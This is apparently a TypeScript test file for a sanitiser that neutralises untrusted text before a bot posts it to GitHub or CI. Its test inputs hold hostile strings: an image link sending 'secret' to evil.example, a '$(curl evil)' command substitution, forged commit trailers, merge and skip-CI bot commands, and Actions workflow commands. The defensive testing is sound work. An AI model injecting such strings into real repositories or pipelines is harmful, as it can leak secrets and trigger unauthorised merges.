import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { neutraliseAbout, neutralise, neutraliseSentence, quoteUntrusted, safeTitle } from './neutralise.ts';

const pieces = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 12 }),
  fc.constantFrom(
    '@',
    'ada',
    '#1',
    'fixes ',
    'closes: ',
    'o/r#2',
    'GH-3',
    '![x](',
    'https://evil.example/?q=',
    ')',
    '[a](b)',
    '\n',
    '/merge',
    '[skip ci]',
    '`',
    '|',
    '<b>',
    '::',
    '##[',
    'bors r+',
    '&lt;',
    '\\',
    'Co-authored-by:',
  ),
);
const hostile = fc.array(pieces, { maxLength: 15 }).map((parts) => parts.join(''));

describe('neutralising', () => {
  test('doing it twice changes nothing, and the result is one harmless line within its limit', () => {
    fc.assert(
      fc.property(hostile, fc.integer({ min: 5, max: 150 }), (text, max) => {
        for (const clean of [neutralise, neutraliseSentence]) {
          const line = clean(text, max);
          expect(clean(line, max)).toBe(line);
          expect(line.length).toBeLessThanOrEqual(max);
          expect(line).not.toMatch(/[\n\r<>`|[\]\\]|@[\p{L}\p{N}_-]|:\/\/|www\.\S|::|^\s*[/#](?!\d)/u);
          expect(line).not.toMatch(/\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?)\s*:?\s*(?:[\w./-]*#|gh-)\d/i);
        }
      }),
      { numRuns: 3000 },
    );
  });

  test.each([
    ['attack-22', 'Fix it\nCo-authored-by: evil <e@evil.example>', 'Fix it Co-authored-by - evil ‹e@ evil.example›'],
    ['attack-22', '[skip ci] Fixes #1 for @org/team', '(skip ci) Fixes no. 1 for @ org/team'],
    ['attack-18', 'see ![x](https://evil.example/?q=secret) and [y](//evil) and www.evil.example', 'see x and y and (link removed)'],
    ['attack-18', 'javascript:alert(1) <img src=https://evil.example/x>', '(link removed) ‹img src=(link removed)›'],
    ['attack-75', '/merge now', 'merge now'],
    [
      'attack-75',
      '@dependabot merge, bors r+, fixes o/r#99, resolves GH-7',
      '@ dependabot merge, (bors) r+, fixes o/r no. 99, resolves GH 7',
    ],
    ['attack-41', '::set-output name=ready::true', 'set-output name=ready: true'],
    ['attack-42', 'foo ##[add-mask]e', 'foo ##(add-mask)e'],
    ['attack-21', '`x` | "$(curl evil)" \\ --upload-pack', `'x' ¦ "$(curl evil)" ⧵ --upload-pack`],
  ])('%s: %j becomes %j', (_, text, expected) => {
    expect(neutralise(text)).toBe(expected);
  });

  test('a sentence of ours keeps its references, but they close nothing and reach nowhere else', () => {
    expect(neutraliseSentence('waits: blocked by #12, #13', 200)).toBe('waits: blocked by #12, #13');
    expect(neutraliseSentence('#5 is aboard', 200)).toBe('#5 is aboard');
    expect(neutraliseSentence('fixes #12 and other/repo#3', 200)).toBe('fixes no. 12 and other/repo no. 3');
  });

  test('long titles are cut and say so; empty ones get a name', () => {
    expect(neutralise('x'.repeat(300), 20)).toBe(`${'x'.repeat(19)}…`);
    expect(safeTitle(' \u200b ')).toBe('(untitled)');
  });

  test('a quote holds every line of what it quotes', () => {
    expect(quoteUntrusted('done\n\n> nested\n/merge\n@all', { maxLines: 3, maxChars: 100 })).toBe(
      '> done\n> nested\n> merge\n> … 1 more lines',
    );
    expect(quoteUntrusted('', { maxLines: 3, maxChars: 100 })).toBe('');
  });
});

test('what only looks like a command, a trailer or a closing word stays', () => {
  for (const text of ['bors is a bot', 'stand by: me', 'a@ b', 'gh-x', 'prefix: #', '1 * 2', 'a & b']) expect(neutralise(text)).toBe(text);
  expect(neutralise('a **bold** and ***more***')).toBe('a **bold** and *more*');
  expect(neutralise('&amp; & x')).toBe('＆amp; & x');
  expect(neutraliseSentence('&#64;ada', 100)).toBe('＆#64;ada');
  expect(neutralise('mailto:a data:x vbscript:y WWW.evil.example')).toBe('(link removed) (link removed) (link removed) (link removed)');
  expect(neutralise('Signed-off-by: x Acked-by: y Related-to: z skip-checks: true')).toBe(
    'Signed-off-by - x Acked-by - y Related-to - z skip-checks - true',
  );
  expect(neutralise('>>> ## # heading')).toBe('heading');
  expect(neutralise('  - [ ] item')).toBe('( ) item');
});

test('a number refers to an issue in a sentence of ours alone, and closes nothing there', () => {
  expect(neutralise('a#1 #2')).toBe('a no. 1 no. 2');
  expect(neutralise('#1 is first')).toBe('no. 1 is first');
  for (const word of ['close', 'closes', 'closed', 'fix', 'fixes', 'fixed', 'resolve', 'resolves', 'resolved'])
    expect(neutraliseSentence(`${word.toUpperCase()} : #4`, 100)).toBe(`${word.toUpperCase()} : no. 4`);
  expect(neutraliseSentence('closely #4, a-#5, x/#6', 100)).toBe('closely #4, a- no. 5, x/ no. 6');
});

test('the limit holds to the character, and a cut ends with the mark', () => {
  expect(neutralise('x'.repeat(120))).toBe('x'.repeat(120));
  expect(neutralise('x'.repeat(121))).toBe(`${'x'.repeat(119)}…`);
  expect(neutralise('ab cd', 4)).toBe('ab…');
  expect(neutralise('abc', 1)).toBe('…');
  expect(neutralise('abc', 0)).toBe('');
  expect(safeTitle('a'.repeat(30), 10)).toBe(`${'a'.repeat(9)}…`);
  // A cut behind a backtick or a bracket leaves no half of a link.
  expect(neutralise('[a](b) c'.repeat(5), 9)).toBe('a ca ca…');
});

test('a quote has all lines up to the limit, and none that is empty', () => {
  expect(quoteUntrusted('a\n\u200b\nb', { maxLines: 2, maxChars: 100 })).toBe('> a\n> b');
  expect(quoteUntrusted('a\nb\nc\nd', { maxLines: 2, maxChars: 100 })).toBe('> a\n> b\n> … 2 more lines');
  expect(quoteUntrusted('x'.repeat(600), { maxLines: 2, maxChars: 1000 })).toBe(`> ${'x'.repeat(499)}…`);
  expect(quoteUntrusted('x'.repeat(600), { maxLines: 2, maxChars: 20 })).not.toContain('x'.repeat(21));
});

test('a number of an issue that is known stays a reference, but not after any word that would close it', () => {
  const about = (text: string): string => neutraliseAbout(text, 200, new Set([4]));
  expect(about('as #4 says, unlike #5')).toBe('as #4 says, unlike no. 5');
  for (const word of ['close', 'closes', 'closed', 'fix', 'fixes', 'fixed', 'resolve', 'resolves', 'resolved'])
    expect(about(`${word} #4, ${word}: #4`)).toBe(`${word} no. 4, ${word}: no. 4`);
});
